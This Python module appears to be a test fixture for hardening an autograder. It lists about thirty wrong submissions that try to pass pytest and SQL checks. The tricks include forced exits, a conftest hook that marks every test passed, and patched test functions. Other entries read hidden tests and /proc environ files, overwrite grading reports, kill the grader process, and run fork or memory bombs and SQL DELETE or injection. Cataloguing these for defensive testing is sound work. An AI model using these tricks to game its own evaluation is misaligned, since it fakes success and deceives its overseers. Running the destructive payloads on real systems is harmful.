"""Submissions that are wrong and try to be graded as right: file name -> text, by attack.

The first twenty are the attacks that were measured on bare pytest harnesses; fourteen of them end
"green" where pytest runs in the student's repository.
"""

__all__ = ["ATTACKS"]

# Every attack's `add` is wrong and its query is wrong: whatever it earns, it stole.
WRONG = "def echo(x):\n    return 0\n\n\ndef add(a, b):\n    return 0\n"
WRONG_SQL = "SELECT text FROM word WHERE 0\n"

_RAISE_IN_CALLS = """\
import {module}


def echo(x):
    {statement}


def add(a, b):
    {statement}
"""

_EVERYTHING_EQUAL = """\
class Yes(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__

    def __repr__(self):
        return "5"


def echo(x):
    return Yes(x if isinstance(x, bool) else 0)


def add(a, b):
    return Yes(0)
"""

_GC_WALK = (
    WRONG
    + """
import gc
import types

for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__.startswith("test_"):
        thing.__code__ = (lambda *a, **k: None).__code__
"""
)

_FRAMES = """\
import sys


def steal(default):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "total", "words", "number"):
                return value
        frame = frame.f_back
    return default


def echo(x):
    return steal(None)


def add(a, b):
    return steal(None)
"""

_READ_TESTS = (
    WRONG
    + """
import glob

stolen = ""
for place in ("/**/checks/hidden/*.py", "/tmp/**/*.py", "/proc/*/environ", "/proc/*/cmdline"):
    for path in glob.glob(place, recursive=True)[:200]:
        try:
            stolen += open(path, errors="replace").read()
        except OSError:
            pass
assert "test_adds" not in stolen, "the hidden check can be read"
"""
)

_REWRITE = """\
import glob
import json

for path in glob.glob("/tmp/**/*.json", recursive=True) + ["report.json", "../report.json"]:
    try:
        open(path, "w").write(json.dumps({"points": 100, "gradable": True}))
    except OSError:
        pass
"""

_LATER = (
    WRONG
    + """
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(0.2)
"""
    + "".join(f"    {line}\n" if line else "\n" for line in _REWRITE.splitlines())
    + "    os._exit(0)\n"
)

ATTACKS: dict[str, dict[str, str]] = {
    # The twenty that were measured.
    "exit-at-import": {"answer.py": "import sys\nsys.exit(0)\n"},
    "hard-exit-at-import": {"answer.py": "import os\nos._exit(0)\n"},
    "hard-exit-in-call": {
        "answer.py": _RAISE_IN_CALLS.format(module="os", statement="os._exit(0)")
    },
    "pytest-exit": {
        "answer.py": _RAISE_IN_CALLS.format(
            module="pytest", statement='pytest.exit("done", returncode=0)'
        )
    },
    "pytest-skip": {
        "answer.py": _RAISE_IN_CALLS.format(module="pytest", statement='pytest.skip("later")')
    },
    "pytest-xfail": {
        "answer.py": _RAISE_IN_CALLS.format(module="pytest", statement='pytest.xfail("known")')
    },
    "equal-to-everything": {"answer.py": _EVERYTHING_EQUAL},
    "conftest-makereport": {
        "answer.py": WRONG,
        "conftest.py": (
            "import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n"
            '    outcome = yield\n    outcome.get_result().outcome = "passed"\n'
        ),
    },
    "ini-plugin": {
        "answer.py": WRONG,
        "pytest.ini": "[pytest]\naddopts = -p evil\n",
        "evil.py": "import os\nos._exit(0)\n",
    },
    "ini-deselect": {
        "answer.py": WRONG,
        "pytest.ini": "[pytest]\naddopts = --deselect checks/hidden --collect-only\n",
        "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--collect-only"\n',
        "tox.ini": "[pytest]\naddopts = --collect-only\n",
        "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n",
    },
    "patched-runtest": {
        "answer.py": WRONG
        + "\ntry:\n    import _pytest.python\n"
        + "    _pytest.python.Function.runtest = lambda self: None\nexcept ImportError:\n    pass\n"
    },
    "gc-walk": {"answer.py": _GC_WALK},
    "frame-walk": {"answer.py": _FRAMES},
    "reads-tests": {"answer.py": _READ_TESTS},
    "shadowed-pluggy": {
        "answer.py": WRONG,
        "pluggy.py": "import os\nos._exit(0)\n",
        "json.py": "import os\nos._exit(0)\n",
    },
    "sitecustomize": {
        "answer.py": WRONG,
        "sitecustomize.py": "import os\nos._exit(0)\n",
        "usercustomize.py": "import os\nos._exit(0)\n",
        "evil.pth": "import os; os._exit(0)\n",
    },
    "atexit-rewrites-report": {
        "answer.py": WRONG
        + "\nimport atexit\n\n\ndef rewrite():\n"
        + "".join(f"    {line}\n" if line else "\n" for line in _REWRITE.splitlines())
        + "\n\natexit.register(rewrite)\n"
    },
    "report-then-exit": {"answer.py": _REWRITE + "import os\nos._exit(0)\n"},
    "swallows-everything": {
        "answer.py": (
            "def echo(x):\n    while True:\n        try:\n            while True:\n"
            "                pass\n        except BaseException:\n            pass\n"
            "\n\nadd = echo\n"
        )
    },
    "late-child": {"answer.py": _LATER},
    # More rows of the catalogue.
    "patched-builtins": {
        "answer.py": WRONG
        + "\nimport builtins\nimport json\nimport random\nimport time\n\n"
        + "builtins.sorted = lambda *a, **k: []\nbuiltins.type = lambda *a: int\n"
        + "json.dumps = lambda *a, **k: '{\"value\": 5}'\n"
        + "random.random = lambda: 0\ntime.time = lambda: 0\n"
    },
    "hostile-repr": {
        "answer.py": (
            "class Nasty(Exception):\n    def __str__(self):\n        raise SystemExit(0)\n\n"
            "    __repr__ = __str__\n\n\n"
            "def echo(x):\n    raise Nasty\n\n\nadd = echo\n"
        )
    },
    "prints-commands": {
        "answer.py": WRONG
        + '\nprint("::notice title=Autograding complete::Points 100/100")\n'
        + 'print("::set-output name=result::eyJ2ZXJzaW9uIjoxfQ==")\n'
    },
    "signals-the-grader": {
        "answer.py": WRONG
        + "\nimport os\nimport signal\n\nfor pid in (os.getppid(), 1, 2, -1):\n    try:\n"
        + "        os.kill(pid, signal.SIGTERM)\n    except OSError:\n        pass\n"
    },
    "memory-bomb": {
        "answer.py": "def echo(x):\n    return len('x' * 10**11)\n\n\n"
        "def add(a, b):\n    big = []\n    while True:\n        big.append(bytearray(10**8))\n"
    },
    "output-flood": {
        "answer.py": "def echo(x):\n    while True:\n        print('x' * 1000)\n\n\nadd = echo\n"
    },
    "fork-bomb": {
        "answer.py": (
            "import os\n\n\ndef echo(x):\n    while True:\n        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n\n\nadd = echo\n"
        )
    },
    "forged-reply": {
        "answer.py": WRONG
        + "\nimport os\n\nfor descriptor in range(3, 64):\n    try:\n"
        + "        os.write(descriptor, b'{\"value\": 5}')\n    except OSError:\n        pass\n"
    },
    "giant-reply": {
        "answer.py": "def echo(x):\n    return 'x' * 50_000_000\n\n\ndef add(a, b):\n"
        "    deep = []\n    for _ in range(100_000):\n        deep = [deep]\n    return deep\n"
    },
    # Raw SQL.
    "sql-attach": {
        "answer.py": WRONG,
        "answer.sql": "ATTACH 'other.db' AS other\n",
    },
    "sql-hang": {
        "answer.py": WRONG,
        "answer.sql": (
            "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
            "SELECT count(*) FROM n\n"
        ),
    },
    "sql-memory": {"answer.py": WRONG, "answer.sql": "SELECT randomblob(900000000)\n"},
    "sql-delete": {"answer.py": WRONG, "answer.sql": "DELETE FROM word\n"},
    "sql-two-statements": {
        "answer.py": WRONG,
        "answer.sql": "SELECT 1; DELETE FROM word\n",
    },
    "sql-pragma": {"answer.py": WRONG, "answer.sql": "PRAGMA writable_schema = ON\n"},
}
